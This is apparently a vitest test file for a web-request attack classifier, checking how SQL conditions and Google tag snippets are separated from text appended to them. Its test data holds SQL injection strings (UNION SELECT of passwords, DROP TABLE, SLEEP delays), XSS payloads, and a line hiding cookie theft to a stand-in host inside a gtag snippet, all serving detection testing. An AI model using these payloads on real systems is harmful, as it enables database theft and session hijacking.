/**
 * What a SQL condition or a tag vendor's snippet leaves beside itself is scored beside the whole value
 * (src/model/shape-remainder.ts; session 33, adv33, datasets/shape-carriers.ts): a payload appended to a condition or
 * added to a gtag snippet's calls reached the model only inside the shape, which pulled it under the block point.
 */
import { describe, expect, it } from 'vitest';
import { remainderOutsideShape } from '../../src/model/shape-remainder.js';
import { textAfterSqlCondition } from '../../src/model/sql-condition.js';
import { textAroundSnippetStatements } from '../../src/model/tag-snippets.js';
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const GTAG_LOADER = '<script async src="https://www.googletagmanager.com/gtag/js?id=G-8XK2LQ4M1Z"></script>';
const GTAG_CALLS = "<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n  gtag('js', new Date());\n  gtag('config', 'G-8XK2LQ4M1Z', { 'anonymize_ip': true });\n";
const gtag = (added = ''): string => `${GTAG_LOADER}\n${GTAG_CALLS}${added}</script>`;

describe('textAfterSqlCondition', () => {
  it('gives what follows a condition of two predicates or more', () => {
    expect(textAfterSqlCondition("status = 'active' AND created_at >= '2026-01-01'\n UNION SELECT username, password FROM users;")).toBe('UNION SELECT username, password FROM users;');
    expect(textAfterSqlCondition("status = 'active' AND created_at >= '2026-01-01' AND SLEEP(5)")).toBe('AND SLEEP(5)');
    expect(textAfterSqlCondition("entity IN ('UK01','DE02') AND account LIKE '1_5%'; DROP TABLE users")).toBe('; DROP TABLE users');
  });

  it('is null for a whole condition, one predicate, or no condition at the start', () => {
    expect(textAfterSqlCondition("status = 'active' AND created_at >= '2026-01-01'")).toBeNull();
    expect(textAfterSqlCondition("status = 'active' UNION SELECT 1")).toBeNull();
    expect(textAfterSqlCondition("' OR '1'='1 AND a = 1 AND b = 2")).toBeNull();
    expect(textAfterSqlCondition('1 OR status = 1 AND a = 2')).toBeNull();
  });
});

describe('textAroundSnippetStatements', () => {
  it("takes a vendor's loader and statements out of a script they were added to", () => {
    const rest = textAroundSnippetStatements(gtag("  new Image().src='https://collect.example.net/c?'+document.cookie;\n"));
    expect(rest?.replace(/\s+/g, ' ').trim()).toBe("<script> new Image().src='https://collect.example.net/c?'+document.cookie; </script>");
  });

  it('takes whole snippets out from beside markup that runs, and leaves a bare script src tag beside them to the whole value', () => {
    expect(textAroundSnippetStatements(`"><svg onload=alert(document.domain)> ${gtag()}`)?.trim()).toBe('"><svg onload=alert(document.domain)>');
    // A self-hosted tracker's tag beside a gtag snippet (the tag-snippets family): scored whole, as before.
    expect(textAroundSnippetStatements(`<script async src="https://stats.example.com/script.js" data-website-id="eb416fb0-98be-4fbc-be93-750a17f7eabc"></script>\n${gtag()}`)).toBeNull();
  });

  it('is null for a snippet alone, a script without vendor statements, or no script', () => {
    expect(textAroundSnippetStatements(gtag())).toBeNull();
    expect(textAroundSnippetStatements('<script>fetch("/x?"+document.cookie)</script>')).toBeNull();
    expect(textAroundSnippetStatements("gtag('js', new Date());")).toBeNull();
  });

  it('is what remainderOutsideShape asks after the condition', () => {
    expect(remainderOutsideShape("a = 1 AND b = 2 OR pg_sleep(5) IS NULL")).toBe('OR pg_sleep(5) IS NULL');
    expect(remainderOutsideShape(gtag('  eval(location.hash.slice(1));\n'))).toContain('eval(location.hash.slice(1))');
    expect(remainderOutsideShape('plain words')).toBeNull();
  });
});

const json = (host: string, path: string, body: (v: string) => unknown): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: host, 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });
const form = (host: string, path: string, name: string): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: host, 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams([[name, v], ['submit', 'Save']]).toString() });

testCarriers(
  'a payload beside a SQL condition or inside a tag snippet, through the full pipeline',
  'lets the condition and the snippet pass alone',
  {
    'elimination rule': json('close.example-fin.com', '/api/v2/elimination-rules', (v) => ({ rule: { where_clause: v } })),
    'record value': json('api.example.test', '/api/v1/records', (v) => ({ kind: 'note', value: v })),
    'header plugin': form('shop.example.com', '/wp-admin/options-general.php', 'ihaf_insert_header'),
  },
  [
    ['elimination rule', "entity IN ('UK01','DE02') AND counterparty IN ('UK01','DE02') AND account LIKE '1_5%'"],
    ['record value', "status = 'active' AND created_at >= '2026-01-01'"],
    ['header plugin', gtag()],
  ],
  [
    ['record value', "status = 'active' AND created_at >= '2026-01-01'\n UNION SELECT username, password FROM users;\n"],
    ['record value', "status = 'active' AND created_at >= '2026-01-01' UNION SELECT username, password FROM users"],
    ['header plugin', gtag("  new Image().src='https://collect.example.net/c?'+document.cookie;\n")],
  ],
);
